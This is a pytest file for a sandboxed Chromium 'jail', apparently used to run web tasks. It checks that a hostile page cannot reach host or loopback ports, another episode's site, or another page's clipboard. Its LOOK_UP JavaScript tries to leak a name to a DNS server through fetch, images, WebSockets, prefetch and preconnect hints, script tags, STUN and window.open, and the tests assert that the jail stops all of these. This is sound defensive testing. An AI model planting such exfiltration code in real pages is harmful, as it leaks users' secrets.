"""A hostile page against live listeners, on this machine and inside the jail: nothing of it may arrive."""

import asyncio
import importlib.util
import json
import os
import socket
import stat
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("playwright", reason="Playwright is not installed")

from playwright.async_api import Page
from tests.envs.web.jail_attack import SITE, Answers

from palestra.envs.web.browsers import Browsers
from palestra.envs.web.jail import chromium_program, write_jail
from palestra.errors import MissingExtra

ROOT = Path(__file__).parents[3]
AS_ROOT_ONLY = pytest.mark.skipif(os.geteuid() != 0, reason="only root can play both parts")


def python_for_all() -> str:
    """Return a Python of this version that every user can start: this one may be in root's home."""
    here, system = Path(os.path.realpath(sys.executable)), Path("/usr/bin") / f"python3.{sys.version_info.minor}"
    if all(folder.stat().st_mode & stat.S_IXOTH for folder in here.parents):
        return str(here)
    if not system.exists():
        pytest.skip(f"other users cannot start {here}, and there is no {system}")
    return str(system)


@pytest.mark.gate
@pytest.mark.browser
@pytest.mark.slow
@pytest.mark.timeout(600)
@pytest.mark.parametrize(
    "uid", [pytest.param(None, id="as-we-are"), pytest.param(12345, id="unprivileged", marks=AS_ROOT_ONLY)]
)
def test_a_hostile_page_reaches_nothing(uid: int | None) -> None:
    """Neither ports of this machine, nor ports on the loopback of the jail, nor the site of another episode."""
    packages = Path(importlib.util.find_spec("playwright").origin or "").parents[1]  # type: ignore[union-attr]
    with tempfile.TemporaryDirectory() as home:
        os.chmod(home, 0o777)
        variables = {
            "PYTHONPATH": f"{ROOT / 'src'}:{ROOT}:{packages}",
            "PATH": os.environ["PATH"],
            "HOME": home,
            "TMPDIR": home,
            **{name: os.environ[name] for name in ("PALESTRA_CHROMIUM",) if name in os.environ},
        }
        command = [sys.executable if uid is None else python_for_all(), "-m", "tests.envs.web.jail_attack"]
        groups: list[str | int] | None = None if uid is None else []
        ended = subprocess.run(
            command, env=variables, cwd=ROOT, user=uid, group=uid, extra_groups=groups, stdout=subprocess.PIPE, check=True
        )
    found = json.loads(ended.stdout)
    assert found["uid"] == (os.getuid() if uid is None else uid)
    assert found["tried"] >= 200
    assert (found["host"], found["inside"], found["neighbor"], found["neighbor around"]) == ([], [], [], [])
    assert found["neighbor before"] >= 1
    for control in (found["control host"], found["control inside"]):
        assert len(set(control)) >= 20
        assert any("UDP" in one for one in control)


LOOK_UP = """name => {
  const add = (tag, attributes) => document.head.append(Object.assign(document.createElement(tag), attributes));
  fetch(`http://fetched.${name}/`, {mode: "no-cors"}).catch(() => 0);
  new Image().src = `http://pictured.${name}/`;
  new WebSocket(`ws://socket.${name}/`);
  add("link", {rel: "dns-prefetch", href: `http://prefetched.${name}/`});
  add("link", {rel: "preconnect", href: `http://preconnected.${name}/`});
  add("script", {src: `http://script.${name}/`});
  const call = new RTCPeerConnection({iceServers: [{urls: `stun:called.${name}:3478`}]});
  call.createDataChannel("x");
  call.createOffer().then(offer => call.setLocalDescription(offer));
  window.open(`http://opened.${name}/`);
}"""


class NameServer(asyncio.DatagramProtocol):
    """Answers nothing, and keeps the first parts of the names that it is asked for."""

    def __init__(self) -> None:
        self.asked: set[str] = set()

    def datagram_received(self, data: bytes, address: object) -> None:
        self.asked.add(data[13 : 13 + data[12]].decode())


@AS_ROOT_ONLY
@pytest.mark.browser
@pytest.mark.slow
async def test_names_are_looked_up_nowhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A name can carry a secret to a name server. The control is the same browser with the machine's network."""

    async def look_up(browsers: Browsers, options: dict[str, Any]) -> None:
        seat = await browsers.open(options)
        if not options:
            await seat.context.route(SITE, lambda route: route.fulfill(body="<head></head>", content_type="text/html"))
        page = await seat.context.new_page()
        await page.goto(SITE)
        await page.evaluate(LOOK_UP, "secret.example")
        await page.wait_for_timeout(3_000)  # what the page has started in the background

    names = NameServer()
    port = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    port.bind(("0.0.0.0", 53))
    transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(lambda: names, sock=port)
    (tmp_path / "resolv.conf").write_text("nameserver 127.0.0.1\n")
    control = tmp_path / "chromium"
    bind = f"--ro-bind {tmp_path}/resolv.conf /etc/resolv.conf"
    control.write_text(f'#!/bin/sh\nexec bwrap --dev-bind / / {bind} -- {chromium_program()} "$@"\n')
    control.chmod(0o755)
    jailed = Browsers()
    try:
        await look_up(jailed, {"proxy": jailed.front.admit(Answers(SITE)).proxy()})
        assert names.asked == set()
        monkeypatch.setenv("PALESTRA_CHROMIUM", str(control))
        free = Browsers(jailed=False)
        try:
            await look_up(free, {})
        finally:
            await free.close()
        assert len(names.asked) >= 6, names.asked
    finally:
        await jailed.close()
        transport.close()


@pytest.mark.browser
@pytest.mark.slow
async def test_what_a_page_copies_is_pasted_into_this_page_only() -> None:
    """Not into the next page of the context, where the next episode may be, and not into another context."""

    async def pasted(page: Page) -> str:
        await page.focus("textarea")
        await page.keyboard.press("Control+V")
        return await page.input_value("textarea")

    async def opened() -> Page:
        seat = await browsers.open({})
        await seat.context.route(
            f"{SITE}**", lambda route: route.fulfill(body="<textarea></textarea>", content_type="text/html")
        )
        page = await seat.context.new_page()
        await page.goto(SITE)
        return page

    browsers = Browsers()
    try:
        own, other = await opened(), await opened()
        await own.fill("textarea", "secret")
        for keys in ("Control+A", "Control+C", "End"):
            await own.locator("textarea").press(keys)
        assert await pasted(other) == ""
        assert await pasted(own) == "secretsecret"
        await own.goto("about:blank")
        await own.goto(SITE)
        assert await pasted(own) == ""
    finally:
        await browsers.close()


def test_the_jail_names_its_browser_and_shares_nothing_else(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    chromium = tmp_path / "opt" / "chromium"
    chromium.parent.mkdir()
    chromium.write_text("#!/bin/sh\n")
    chromium.chmod(0o755)
    monkeypatch.setenv("PALESTRA_CHROMIUM", str(chromium))
    monkeypatch.setattr("shutil.which", lambda name: f"/usr/bin/{name}")
    program = write_jail(tmp_path, chromium_program(), 3128)
    words = program.read_text()
    assert "--unshare-all" in words
    assert f"--ro-bind {chromium.parent} {chromium.parent}" in words
    assert words.count("--bind ") == 1  # the profile
    assert stat.S_IMODE(os.stat(program).st_mode) == 0o755


def test_a_missing_chromium_is_one_sentence(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("PALESTRA_CHROMIUM", raising=False)
    monkeypatch.setattr("shutil.which", lambda name: None)
    with pytest.raises(MissingExtra, match="apt-get install chromium"):
        chromium_program()
    with pytest.raises(MissingExtra, match="apt-get install bubblewrap"):
        write_jail(Path("/nowhere"), "/usr/bin/chromium", 3128)


def test_the_headless_shell_is_used_before_the_whole_browser(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("PALESTRA_CHROMIUM", raising=False)
    monkeypatch.setenv("PATH", str(tmp_path))
    for name in ("chromium", "chromium-headless-shell"):
        (tmp_path / name).write_text("#!/bin/sh\n")
        (tmp_path / name).chmod(0o755)
        assert chromium_program() == str((tmp_path / name).resolve())
